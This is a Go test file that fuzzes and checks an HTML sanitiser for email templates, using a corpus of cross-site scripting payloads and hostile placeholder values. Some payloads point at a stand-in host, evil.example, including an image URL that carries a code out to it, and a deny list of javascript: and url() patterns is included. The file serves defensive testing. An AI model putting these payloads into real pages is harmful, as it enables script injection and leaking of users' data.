package wording

import (
	"fmt"
	"strings"
	"testing"
	_ "time/tzdata" // whatever zone files the machine has

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"lanyard/internal/notify"
	"lanyard/internal/notify/template"
	"lanyard/internal/secret"
)

// pages are what people, or others, may want to have in a message.
var pages = []string{
	`<p>{{UserName}}</p>`,
	`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
	`<svg><style><img src="</style><img src=x onerror=alert(1)//">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" jAvAsCrIpT&#58;alert(1)">x</a>`, `<a href="data:text/html,x">x</a>`, `<a href="//evil.example">x</a>`,
	`<a href="{{UserName}}">x</a>`, `<a href="javascript:{{EnrollUrl}}">x</a>`, `<a href='{{EnrollUrl}}' onclick='{{Code}}'>x</a>`,
	`<p title="{{UserName}}" {{UserName}}="x" style="color:{{UserName}}">x</p>`, `<{{UserName}}>`, `<p {{UserName}}>x</p>`,
	`<img src="{{EnrollQRCode}}" alt="{{UserName}}">`, `<img src="{{EnrollUrl}}">`, `<img src="https://evil.example/{{Code}}.png">`,
	`<p style="background:url(https://evil.example/x)">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<p style="position:fixed;color:#fff">x</p>`,
	`<style>body{background:url(https://evil.example)}</style>`, `<link rel=stylesheet href=https://evil.example>`, `<base href=https://evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<form action=https://evil.example><input name=code><button>Go</button></form>`,
	`<iframe src=https://evil.example></iframe>`, `<object data=x></object>`, `<embed src=x>`, `<video src=https://evil.example></video>`,
	`<!-- {{Code}} --><p>x`, `<![CDATA[{{UserName}}]]>`, `<textarea>{{UserName}}</textarea><p>x</p>`, `<title>{{UserName}}</title>`, `</body></html><p>{{UserName}}`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><p>{{UserName}}</p></template>`, `<xmp>{{UserName}}</xmp>`, `<plaintext>{{UserName}}`,
	`&#123;&#123;UserName}}`, `{&lt;b&gt;{UserName}}`, `{<b></b>{UserName}}`, `<p title='"{{UserName}}'>x</p>`, "<p title=`{{UserName}}`>x</p>",
	`<html><head><style>p{}</style></head><body bgcolor="#fff"><h1 class="ink">Hi {{UserName}}</h1><table role="presentation" width="100%"><tr><td align="center" style="padding:4px; color: rgb(1,2,3)">x</td></tr></table></body></html>`,
}

// names are what may fill a placeholder.
var names = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `</title></style></td></table><h1>Hello</h1>`,
	`<!--`, `-->`, `javascript:alert(1)`, `{{EnrollUrl}}`, `&lt;b&gt;`, `]]>`, "`", `\`, `"`, `'`, `<a href="https://evil.example">`, `=`, `x onclick=alert(1)`,
}

// allowedElements and allowedAttributes are written down here once more: a policy
// that becomes wider by mistake is noticed.
const (
	allowedElements = " html head body p br hr div span center h1 h2 h3 h4 h5 h6 strong b em i u s small sub sup blockquote pre code ul ol li" +
		" table caption thead tbody tfoot tr td th a img "
	allowedAttributes = " href src alt title class role dir lang align valign bgcolor width height border cellpadding cellspacing colspan rowspan style "
)

// Threat 18: what a network writes is sanitised, and what fills it makes no
// element and no attribute.
func TestPagesHoldNothingThatActs(t *testing.T) {
	t.Parallel()
	for _, raw := range pages {
		page := Sanitise(raw)
		harmless := skeleton(t, page.HTML, "harmless")
		for _, line := range harmless {
			for i, word := range strings.Split(line, "\x00") {
				list, name := allowedElements, word
				if i > 0 {
					list, name, _ = allowedAttributes, strings.SplitN(word, "=", 2)[0], 0
				}
				if !strings.Contains(list, " "+name+" ") {
					t.Errorf("%s left %q in %s", raw, name, page.HTML)
				}
			}
		}
		for _, bad := range []string{"javascript:", "url(", "evil.example", "data:", "<!--", "expression"} {
			if strings.Contains(strings.ToLower(tags(page.HTML)), bad) {
				t.Errorf("%s left %s in %s", raw, bad, page.HTML)
			}
		}
		for _, name := range names {
			if d := cmp.Diff(harmless, skeleton(t, page.HTML, name)); d != "" {
				t.Errorf("%s: %q changes the page:\n%s", raw, name, d)
			}
		}
	}
}

// tags is a page without its texts.
func tags(page string) string {
	var b strings.Builder
	z := html.NewTokenizer(strings.NewReader(page))
	for z.Next() != html.ErrorToken {
		if t := z.Token(); t.Type != html.TextToken {
			b.WriteString(t.String())
		}
	}
	return b.String()
}

// skeleton are the elements of a page as it is sent to somebody of a name, with
// their attributes; those that hold texts, and addresses, without their values.
func skeleton(t *testing.T, page, name string) []string {
	t.Helper()
	m := home.message(Kind{notify.BadgeInvitation, notify.Email}, "en", notify.Data{UserName: secret.Text(name)}, now)
	d := template.Draft{Subject: "x", Text: "x", HTML: page + " "}
	r, _, err := template.Preview(m, home.manner("en", &d))
	if err != nil {
		t.Fatal(err)
	}
	_, body, _ := strings.Cut(r.HTML.Reveal(), "<body ")
	doc, err := html.Parse(strings.NewReader("<body " + body))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for n := range doc.Descendants() {
		switch n.Type {
		case html.ElementNode:
			line := n.Data
			for _, a := range n.Attr {
				if a.Key == "title" || a.Key == "alt" || n.Data == "body" {
					a.Val = ""
				}
				line += fmt.Sprintf("\x00%s=%s", a.Key, a.Val)
			}
			out = append(out, line)
		case html.CommentNode:
			out = append(out, "comment")
		}
	}
	return out
}

func TestSanitiseKeepsWhatMailsAreMadeOf(t *testing.T) {
	t.Parallel()
	const page = `<table role="presentation" width="100%" cellpadding="0"><tr><td align="center" style="padding: 4px; color: #fff; font-family: &#39;Segoe UI&#39;, Arial"><h1 class="ink">Hi {{UserName}}</h1><p>Until {{ExpiresAt}}<br><a href="{{EnrollUrl}}">Go</a> or <a href="https://help.example/a?b=1&amp;c=2">help</a></p><img src="{{EnrollQRCode}}" alt="QR" width="180" height="180"></td></tr></table>`
	got := Sanitise(page)
	if len(got.Removed) > 0 || len(got.Addresses) > 0 {
		t.Errorf("removed %q, addresses %q", got.Removed, got.Addresses)
	}
	for _, want := range []string{`href="{{EnrollUrl}}"`, `src="{{EnrollQRCode}}"`, `padding: 4px`, `width="100%"`, `b=1&amp;c=2`, `class="ink"`, `Segoe UI`} {
		if !strings.Contains(got.HTML, want) {
			t.Errorf("%s is gone from %s", want, got.HTML)
		}
	}
	if want := "UserName ExpiresAt EnrollUrl EnrollQRCode"; strings.Join(got.places, " ") != want {
		t.Errorf("got %v, want %s", got.places, want)
	}
}

func TestSanitiseSaysWhatItTookOut(t *testing.T) {
	t.Parallel()
	got := Sanitise(`<html><head><title>x</title></head><body><p onclick="x" style="position:fixed;color:#fff">x<a href="ftp://x">y</a></p><script>z</script></body>`)
	want := []string{"onclick", "style: position", "<a>", "href of <a>", "<script>"}
	if d := cmp.Diff(want, got.Removed); d != "" {
		t.Error(d)
	}
}

// What was sanitised is as it is: saving a text that was read changes nothing.
func TestSanitiseIsDoneOnce(t *testing.T) {
	t.Parallel()
	for _, raw := range pages {
		once := Sanitise(raw)
		if twice := Sanitise(once.HTML); twice.HTML != once.HTML || len(twice.Removed) > 0 {
			t.Errorf("%s\nonce:  %s\ntwice: %s (%q)", raw, once.HTML, twice.HTML, twice.Removed)
		}
	}
}

func FuzzSanitise(f *testing.F) {
	for _, raw := range pages {
		f.Add(raw)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		page := Sanitise(raw)
		if twice := Sanitise(page.HTML); twice.HTML != page.HTML {
			t.Errorf("once %q, twice %q", page.HTML, twice.HTML)
		}
		harmless := skeleton(t, page.HTML, "harmless")
		for _, name := range names {
			if d := cmp.Diff(harmless, skeleton(t, page.HTML, name)); d != "" {
				t.Errorf("%q changes the page:\n%s", name, d)
			}
		}
	})
}

func TestPlainIsTheTextOfAPage(t *testing.T) {
	t.Parallel()
	got := Plain(`<h1>Hi {{UserName}}</h1><p>One
  line<br>and another.</p><ul><li>Until {{ExpiresAt}}</li></ul><p>Then <a href="{{EnrollUrl}}">go <b>on</b></a> or read <a href="https://x.example">help</a>.</p><img src="{{EnrollQRCode}}" alt="QR"><h2>End</h2><p><a href="{{EnrollUrl}}">{{EnrollUrl}}</a></p>`)
	want := "# Hi {{UserName}}\n\nOne line\n\nand another.\n\n* Until {{ExpiresAt}}\n\nThen\n\n[go on]({{EnrollUrl}})\n\nor read help.\n\nEnd\n\n{{EnrollUrl}}"
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}
